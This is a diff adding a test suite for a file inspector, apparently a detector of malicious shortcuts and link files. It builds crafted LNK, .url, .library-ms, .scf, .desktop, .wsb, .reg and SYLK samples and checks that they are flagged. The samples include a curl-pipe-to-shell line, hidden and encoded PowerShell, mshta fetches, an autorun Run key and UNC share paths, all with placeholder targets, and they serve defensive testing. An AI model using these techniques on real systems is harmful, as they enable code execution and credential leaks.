@@ -1,0 +1,152 @@
+/** Shortcuts and link files, on their own and attached. */
+
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import { useInspector } from '#inspect/testing/inspector.ts'
+import { writeZip } from '#inspect/testing/zip-writer.ts'
+
+const { inspect } = useInspector()
+
+function accusations(bytes: Uint8Array): string[] {
+  const { findings } = inspect(bytes)
+  return findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id.replace('Docvet.', ''))
+}
+
+const attached = (name: string, data: Uint8Array | string): Uint8Array =>
+  writeZip([
+    { name, data: Buffer.from(data) },
+    { name: 'a.txt', data: Buffer.from('text') },
+  ])
+const has = (bytes: Uint8Array, id: string): void => assert.ok(accusations(bytes).includes(id), `${accusations(bytes)}`)
+const harmless = (bytes: Uint8Array): void => assert.deepEqual(accusations(bytes), [])
+
+/** A shortcut with a relative path and arguments. */
+function shortcut(target: string, args: string, { isWide = true, environment = '' } = {}): Buffer {
+  const header = Buffer.alloc(76)
+  Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(header)
+  header.writeUInt32LE(0x8 | 0x20 | (isWide ? 0x80 : 0), 20)
+  const text = (value: string) => {
+    const length = Buffer.alloc(2)
+    length.writeUInt16LE(value.length)
+    return Buffer.concat([length, Buffer.from(value, isWide ? 'utf16le' : 'latin1')])
+  }
+  const block = Buffer.alloc(environment === '' ? 0 : 788)
+  if (environment !== '') {
+    block.writeUInt32LE(788, 0)
+    block.writeUInt32LE(0xa0000001, 4)
+    block.write(environment, 8, 'latin1')
+    block.write(environment, 268, 'utf16le')
+  }
+  return Buffer.concat([header, text(target), text(args), block, Buffer.alloc(4)])
+}
+
+suite('a Windows shortcut', () => {
+  test('with a command', () => has(attached('a.lnk', shortcut('cmd.exe', '/c calc')), 'Shortcut.Command'))
+  test('with a hidden command', () =>
+    has(
+      attached('a.lnk', shortcut('a', '-w hidden -c calc', { environment: '%SystemRoot%\\powershell.exe' })),
+      'Shortcut.Command',
+    ))
+  test('in Latin-1', () =>
+    has(attached('a.lnk', shortcut('mshta.exe', 'http://example.com/a', { isWide: false })), 'Shortcut.Command'))
+  test('to a share', () =>
+    has(attached('a.lnk', shortcut('a', '', { environment: '\\\\files.example\\a\\b.exe' })), 'Shortcut.Remote'))
+  test('to a program is only a shortcut', () =>
+    assert.deepEqual(accusations(attached('a.lnk', shortcut('notepad.exe', 'a.txt'))), ['Embedded.Shortcut']))
+  test('that is cut off is read as far as it goes', () => {
+    const whole = shortcut('cmd.exe', '/c calc')
+    for (let length = 20; length < whole.length; length += 3)
+      assert.deepEqual(inspect(whole.subarray(0, length)).obstacle, null)
+  })
+})
+
+const LIBRARY = (url: string) =>
+  `<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>${url}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`
+
+suite('link files', () => {
+  const remote: [string, string][] = [
+    ['a.url', '[InternetShortcut]\r\nURL=file://files.example/share/a.exe\r\n'],
+    ['b.url', '[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\files.example\\a.ico\r\n'],
+    ['c.url', '[InternetShortcut]\r\nURL=http://192.0.2.7/a\r\n'],
+    ['d.url', '[InternetShortcut]\r\nURL=search-ms:query=a\r\n'],
+    ['a.library-ms', LIBRARY('\\\\192.0.2.7\\s')],
+    ['b.library-ms', LIBRARY('&#92;&#92;192.0.2.7\\s')],
+    [
+      'a.searchConnector-ms',
+      '<?xml version="1.0"?><!-- a --><searchConnectorDescription><simpleLocation><url>https://example.com/dav</url></simpleLocation></searchConnectorDescription>',
+    ],
+    ['a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\files.example\\a.ico\r\n'],
+    ['a.iqy', 'WEB\r\n1\r\nhttps://example.com/t\r\n'],
+    [
+      'a.jnlp',
+      '<?xml version="1.0"?><jnlp codebase="https://example.com/" href="a.jnlp"><security><all-permissions/></security></jnlp>',
+    ],
+    [
+      'a.theme',
+      '; a\r\n[Theme]\r\nDisplayName=a\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\files.example\\a.jpg\r\n',
+    ],
+    [
+      'a.inetloc',
+      '<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>file://files.example/a</string></dict></plist>',
+    ],
+  ]
+  for (const [name, text] of remote)
+    test(`${name} to a server`, () => {
+      has(attached(name, text), 'Shortcut.Remote')
+      has(Buffer.from(text), 'Shortcut.File')
+    })
+
+  const commands: [string, string][] = [
+    [
+      'a.settingcontent-ms',
+      '<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
+    ],
+    [
+      'a.msc',
+      '<?xml version="1.0"?><MMC_ConsoleFile><StringTable><String>res://apds.dll/redirect.html?target=javascript:eval(1)</String></StringTable></MMC_ConsoleFile>',
+    ],
+    ['a.desktop', '[Desktop Entry]\nExec=sh -c "curl https://example.com/a | sh"\n'],
+    [
+      'a.wsb',
+      '<Configuration><LogonCommand><Command>powershell -enc YQBhAGEAYQBhAGEAYQA=</Command></LogonCommand></Configuration>',
+    ],
+  ]
+  for (const [name, text] of commands)
+    test(`${name} with a command`, () => {
+      has(attached(name, text), 'Shortcut.Command')
+      has(Buffer.from(text), 'Shortcut.Command')
+    })
+
+  test('a registry file with a command', () => {
+    const key =
+      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n'
+    has(attached('a.reg', `${key}"a"="cmd /c \\"C:\\\\a.bat\\""\r\n`), 'Shortcut.Registry')
+    harmless(
+      attached(
+        'a.reg',
+        'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n"path"="C:\\\\a"\r\n',
+      ),
+    )
+  })
+
+  test('a text workbook with a macro', () => {
+    has(
+      Buffer.from('ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1;KOut Flank;F\r\nC;X1;Y1;K0;EEXEC("calc")\r\nE\r\n'),
+      'Sylk.Macro',
+    )
+    harmless(Buffer.from('ID;PWXL;N;E\r\nP;PGeneral\r\nC;X1;Y1;K"EXEC(1)"\r\nC;X2;Y1;K3;ESUM(R1C1:R2C1)\r\nE\r\n'))
+  })
+
+  const HARMLESS: [string, string][] = [
+    ['bookmark.url', '[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=C:\\a.ico\r\n'],
+    ['folder.library-ms', LIBRARY('knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}')],
+    ['app.desktop', '[Desktop Entry]\nType=Application\nExec=gimp %U\nName=GIMP\n'],
+    ['notes.txt', 'A file with [InternetShortcut] and URL=file://files.example/a opens a share.\n'],
+    [
+      'info.plist',
+      '<?xml version="1.0"?><plist version="1.0"><dict><key>CFBundleName</key><string>A</string></dict></plist>',
+    ],
+    ['settings.xml', '<Configuration><Setting>1</Setting></Configuration>'],
+  ]
+  for (const [name, text] of HARMLESS) test(`${name} is harmless`, () => harmless(attached(name, text)))
+})
